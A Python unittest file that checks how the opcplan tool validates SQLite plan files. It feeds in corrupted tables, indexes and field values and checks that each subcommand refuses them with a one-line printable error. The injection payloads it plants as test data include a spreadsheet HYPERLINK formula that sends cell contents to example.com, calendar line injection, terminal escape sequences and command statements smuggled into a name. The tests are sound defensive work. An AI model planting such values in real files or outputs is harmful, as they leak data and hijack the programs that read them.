"""sound_rows: what opcplan tells as rows that no plan has, each subcommand tells too, and shows nothing of it."""

import collections
import importlib.machinery
import importlib.util
import random
import re
import sqlite3
import tempfile
import unittest
from contextlib import closing
from pathlib import Path

from support import plans

from opcplan.errors import Unreadable
from opcplan.plans import plan_file, sound_rows


SOUND = ["two-hundred-statements", "data-centre-year", "each-list", "empty", "edges-of-the-plan", "longest-plan",
         "run-cycles-record-by-record", "calendars-record-by-record", "periods-record-by-record",
         "predecessors-record-by-record", "options-value-by-value", "week-of-daily-plans"]
# leaves rows in each table
PLAN = "two-hundred-statements"
WITH_PAIRS = [PLAN, "week-of-daily-plans", "batch-through-all-sets", "data-centre-year"]
# of the changes of tools/gate/plan-files those that only opcplan tells: what of somebody's own is in its way
OF_OPCPLAN = {"a further table that refers to one", "a table with a trigger", "an index with a condition",
              "a further table's trigger of one of the names", "a trigger of a further index's name"}
# changes of keys, lists and pairs; `?` stands for a serial at random
CHANGES = [
    "DELETE FROM dependency WHERE rowid = (SELECT rowid FROM dependency WHERE successor >= ? LIMIT 1)",
    "INSERT OR IGNORE INTO dependency SELECT ?, serial FROM history_row WHERE serial <> ? LIMIT 1",
    "INSERT OR IGNORE INTO dependency SELECT ?, serial FROM cp_row ORDER BY serial % 7 LIMIT 1",
    "INSERT OR IGNORE INTO dependency SELECT serial, ? FROM history_row ORDER BY serial % 5 LIMIT 1",
    "INSERT OR IGNORE INTO dependency SELECT serial, ? FROM cp_row WHERE status <> 'W' LIMIT 1",
    "INSERT OR IGNORE INTO dependency SELECT ?, max(serial) FROM ltp_row",
    "UPDATE OR IGNORE dependency SET predecessor = ? WHERE successor >= ?",
    "UPDATE link_in_force SET within = ? WHERE rowid % 2 = ? % 2",
    "UPDATE link_in_force SET within = NULL WHERE rowid % 3 = ? % 3",
    "UPDATE link_in_force SET within = 1 + ? % 30",
    "DELETE FROM link_in_force WHERE rowid % 4 = ? % 4",
    "INSERT OR IGNORE INTO link_in_force SELECT pred, app, NULL FROM link_in_force LIMIT 1 + ? % 3",
    "INSERT OR IGNORE INTO link_in_force SELECT app, app, NULL FROM cp_row WHERE serial <= ?",
    "UPDATE cp_row SET status = 'W' WHERE serial = ?",
    "UPDATE cp_row SET status = 'C' WHERE serial = ?",
    "UPDATE cp_row SET status = 'D' WHERE serial = ?",
    "UPDATE cp_row SET status = 'S' WHERE serial = ?",
    "UPDATE OR IGNORE history_row SET ia = ia - 1 WHERE serial = ?",
    "UPDATE OR IGNORE cp_row SET ia = ia - 1 WHERE serial = ?",
    "UPDATE cp_row SET app = (SELECT min(app) FROM cp_row), ia = (SELECT min(ia) FROM cp_row) WHERE serial = ?",
    "UPDATE deletion_row SET reason = 'O' WHERE serial >= ?",
    "UPDATE OR IGNORE ltp_row SET (app, ia) = (SELECT app, ia FROM deletion_row WHERE reason = 'O') WHERE serial > ?",
    "UPDATE ltp_row SET deadline = deadline + ?",
]
# texts that are no name, no letter and no answer of a plan
NO_TEXTS = ["", "A\nB", "A\r\nB", "A\x1b[31m", "a", "1A", "A B", "A,B", "A\0B", "A\x7f", "\x9bA", "\u00c4", "A\u202e",
            "=1+1", "A" * 17, "A" * 100_000, b"A\xff"]
NO_NUMBERS = [-1, -(2**63), 2**62]
# an application whose name is statements, where it is written into a stream as it stands
STATEMENTS = "A,A,\n/*\nltp-create --from 2030-01-01 --to 2030-01-31 --job 9\ndefine applications --job 10\nB"


def plan_files():
    """The tool tools/gate/plan-files, which says how a plan is made unfit."""
    loader = importlib.machinery.SourceFileLoader("plan_files", str(plans.TOP / "tools" / "gate" / "plan-files"))
    module = importlib.util.module_from_spec(importlib.util.spec_from_loader("plan_files", loader))
    loader.exec_module(module)
    return module


def text_of(value):
    """A text for SQL, also one that is no UTF-8 text."""
    return f"CAST(x'{(value if isinstance(value, bytes) else value.encode()).hex()}' AS TEXT)"


def asked_of(file):
    """Words of each subcommand that reads a plan."""
    stream = plans.DATA / "tuesday.in"
    return [["dump", file], ["export", file, "--json", "--set", "ltp", "--set", "deletions"], ["export", file, "--csv"],
            ["export", file, "--ics"], ["next-job", file], ["why", file, "A", "2024-01-02/08.00"], ["page", file],
            ["why-day", file, "A", "2024-01-02"], ["late", file, "--now", "2024-02-01/00.00"], ["rows", file],
            ["what-if", file, stream], ["check", file, stream],
            ["edit", file, "calendar", "DEFAULT", "2024-01-05", "free"]]


class SoundRows(unittest.TestCase):
    def setUp(self):
        room = tempfile.TemporaryDirectory(prefix="sound-rows-")
        self.addCleanup(room.cleanup)
        self.room = Path(room.name)

    def changed(self, name, *texts):
        """A plan after some changes by stock SQLite."""
        file = plans.copy_of(plans.of_worked(PLAN), self.room, name)
        with closing(sqlite3.connect(file)) as db:
            for text in texts:
                db.execute(text)
            db.commit()
        return file

    def assert_reported(self, file, *words):
        """Asks that each subcommand tells the plan in one line, and shows nothing of it."""
        for asked in asked_of(file):
            with self.subTest(file.name, words=asked[0]):
                ran = plans.plan(*asked)
                self.assertEqual((ran.returncode, ran.stdout), (1, ""), ran.stderr)
                self.assertRegex(ran.stderr, f"^plan: {file}: [^\n]+\n$")
                self.assertTrue(ran.stderr[:-1].isprintable(), ran.stderr)
                for word in words:
                    self.assertIn(word, ran.stderr)

    def test_sound_plans_are_opened(self):
        for name in SOUND:
            with self.subTest(name), plan_file.opened(plans.of_worked(name)) as plan:
                self.assertEqual(plan.version, 2)

    def test_what_opcplan_reports_is_reported(self):
        tool, plan, tried = plan_files(), plans.of_worked(PLAN), 0
        for name, fault, base, change in tool.UNFIT:
            if base and name not in OF_OPCPLAN:
                file = plans.copy_of(plan, self.room)
                tool.changed(change, file)
                with self.subTest(name), self.assertRaises(Unreadable) as raised, plan_file.opened(file):
                    self.fail("it was opened")
                self.assertIn("no sound plan" if fault == 52 else "", str(raised.exception))
                tool.remove(file)
                tried += 1
        self.assertGreater(tried, 30)
        for table, column, value in tool.OTHER_TYPES:
            file = plans.copy_of(plan, self.room)
            tool.unfold_types(table, column, value, file)
            with self.subTest(f"{column} of {table} is {value}"), self.assertRaises(Unreadable):
                with plan_file.opened(file):
                    self.fail("it was opened")
            tool.remove(file)

    def test_kept_replies_of_every_form_are_taken(self):
        for number, reply in enumerate(plan_files().KEPT_REPLIES):
            file = self.changed(f"kept-{number}.db", f"UPDATE job SET reply = '{reply}' WHERE number = 1")
            with self.subTest(reply), plan_file.opened(file) as plan:
                self.assertEqual(plan.version, 2)

    def test_each_value_of_each_column_is_held_to_its_form(self):
        """Stock SQLite puts values into each column that it may never have: each is told, with its column."""
        file, tried = plans.copy_of(plans.of_worked(PLAN), self.room), 0
        with closing(sqlite3.connect(file, isolation_level=None)) as db:
            db.row_factory = sqlite3.Row
            sound_rows.ask(db, 2)
            for table in sound_rows.RULES:
                for _, column, kind, *_ in db.execute(f"PRAGMA table_info({table})").fetchall():
                    values = {"TEXT": map(text_of, NO_TEXTS), "INTEGER": NO_NUMBERS, "BLOB": []}[kind]
                    for value in [0, 2000, *NO_NUMBERS[1:]] if column == "k" else values:
                        tried += self.check_value(db, table, column, value)
        self.assertGreater(tried, 400)

    def check_value(self, db, table, column, value):
        """Whether a value was tried: a CHECK of the table refuses some before."""
        db.execute("BEGIN")
        try:
            db.execute(f"UPDATE {table} SET {column} = {value} WHERE rowid = (SELECT min(rowid) FROM {table})")
            with self.subTest(table, column=column, value=str(value)[:60]):
                with self.assertRaises(sound_rows.Unsound) as raised:
                    sound_rows.ask(db, 2)
                self.assertIn(f"{column} of ", str(raised.exception))
                self.assertTrue(str(raised.exception).isprintable())
                self.assertLess(len(str(raised.exception)), 400)
        except sqlite3.IntegrityError:
            return False
        finally:
            db.execute("ROLLBACK")
        return True

    @unittest.skipUnless(plans.PROGRAM.exists(), "opcplan is not built")
    def test_opcplan_refuses_such_values_too(self):
        for table, column, value in (("application", "name", text_of("A\x1b[31m")), ("cp_row", "app", text_of("A\0B")),
                                     ("run_cycle", "period", text_of("A" * 9)), ("ltp_row", "deadline", 37255 * 1440),
                                     ("ltp_row", "run_cycle", text_of("")), ("calendar_entry", "work", 2),
                                     ("job", "reply", text_of("ok serial 01")), ("plan_period", "origin", 729)):
            change = f"UPDATE {table} SET {column} = {value} WHERE rowid = (SELECT min(rowid) FROM {table})"
            file = self.changed(f"{table}-{column}.db", change)
            with self.subTest(column), self.assertRaises(Unreadable), plan_file.opened(file):
                self.fail("it was opened")
            ran = plans.subprocess.run([plans.PROGRAM, "--db", file], input=b"", capture_output=True, check=False)
            self.assertEqual(ran.stdout, b"fault 52\n", (table, column))

    @unittest.skipUnless(plans.PROGRAM.exists(), "opcplan is not built")
    def test_plans_are_sound_where_opcplan_takes_them(self):
        """Keys, lists and pairs are changed at random, and stock SQLite writes them: both tell the same plans."""
        draw, sound, unsound, differ = random.Random(77), 0, collections.Counter(), []
        for number in range(4 * len(CHANGES)):
            name, change = draw.choice(WITH_PAIRS), CHANGES[number % len(CHANGES)]
            file = plans.copy_of(plans.of_worked(name), self.room, f"{number}.db")
            with closing(sqlite3.connect(file)) as db:
                (issued,) = db.execute("SELECT issued FROM plan_meta").fetchone()
                text = re.sub(r"\?", lambda _: str(draw.randint(1, issued)), change)
                db.execute(text)
                db.commit()
                db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            found = ""
            try:
                with plan_file.opened(file):
                    sound += 1
            except Unreadable as why:
                found = str(why).partition("no sound plan: ")[2]
                unsound[found] += 1
            ran = plans.subprocess.run([plans.PROGRAM, "--db", file], input=b"", capture_output=True, check=False)
            if (ran.stdout == b"fault 52\n") != bool(found):
                differ.append((name, text, found, ran.stdout))
        self.assertEqual(differ, [])
        self.assertGreater(sound, 10)
        self.assertGreater(len(unsound), 5, unsound)

    def test_name_that_is_statements_goes_into_no_stream(self):
        file = self.changed("statements.db", f"INSERT INTO application VALUES ({text_of(STATEMENTS)}, 1, NULL)")
        self.assert_reported(file, "name of application is 'A,A,\\x0a/*\\x0altp-create")

    def test_name_that_is_lines_of_a_calendar_goes_into_none(self):
        name = text_of("X\r\nATTACH:http://example.com/x\rSUMMARY:Y" + "Z" * 112)
        last = "(SELECT max(serial) FROM cp_row)"
        file = self.changed("lines.db", f"UPDATE cp_row SET app = {name} WHERE serial = {last}")
        self.assert_reported(file, "app of cp_row is 'X\\x0d\\x0aATTACH:")

    def test_name_that_is_a_formula_goes_into_no_table(self):
        name = text_of('=HYPERLINK("http://example.com/"&A1)')
        last = "(SELECT max(serial) FROM ltp_row)"
        file = self.changed("formula.db", f"UPDATE ltp_row SET app = {name} WHERE serial = {last}")
        self.assert_reported(file, "app of ltp_row is '=HYPERLINK")

    def test_name_that_moves_a_cursor_is_shown_to_no_terminal(self):
        file = self.changed("cursor.db", f"UPDATE run_cycle SET period = {text_of(chr(27) + '[2J')}")
        self.assert_reported(file, "period of run_cycle is '\\x1b[2J'")

    def test_index_that_says_other_names_is_reported(self):
        """The names of an index are read in place of those of the table; here it is made of other rows."""
        file = plans.copy_of(plans.of_worked(PLAN), self.room)
        with closing(sqlite3.connect(file)) as db:
            db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            (app,) = db.execute("SELECT min(name) FROM application").fetchone()
        data = file.read_bytes()
        root = self.root_of(file, "sqlite_autoindex_application_1")
        page = data[(root - 1) * 4096 : root * 4096]
        self.assertIn(app.encode(), page)
        other = page.replace(app.encode(), b"\x1b" * len(app))
        file.write_bytes(data[: (root - 1) * 4096] + other + data[root * 4096 :])
        with self.assertRaises(Unreadable) as raised, plan_file.opened(file):
            self.fail("it was opened")
        self.assertIn("table application is damaged", str(raised.exception))

    def root_of(self, file, name):
        """The page at which an index begins."""
        with closing(sqlite3.connect(file)) as db:
            return db.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", [name]).fetchone()[0]

    def test_tables_that_are_made_otherwise_are_reported(self):
        key = "CREATE TABLE application (name TEXT NOT NULL, active INTEGER NOT NULL, calendar TEXT) STRICT"
        made = ("CREATE TABLE application (name TEXT NOT NULL, active INTEGER AS (abs(-9223372036854775808)), "
                "calendar TEXT, PRIMARY KEY (name))")
        virtual = "CREATE VIRTUAL TABLE application USING fts4 (name, active, calendar)"
        for name, text in (("key", key), ("made", made), ("virtual", virtual)):
            file = self.changed(f"{name}.db", "DROP TABLE application", text)
            with self.subTest(name), self.assertRaises(Unreadable) as raised, plan_file.opened(file):
                self.fail("it was opened")
            self.assertIn("application", str(raised.exception))


if __name__ == "__main__":
    unittest.main()
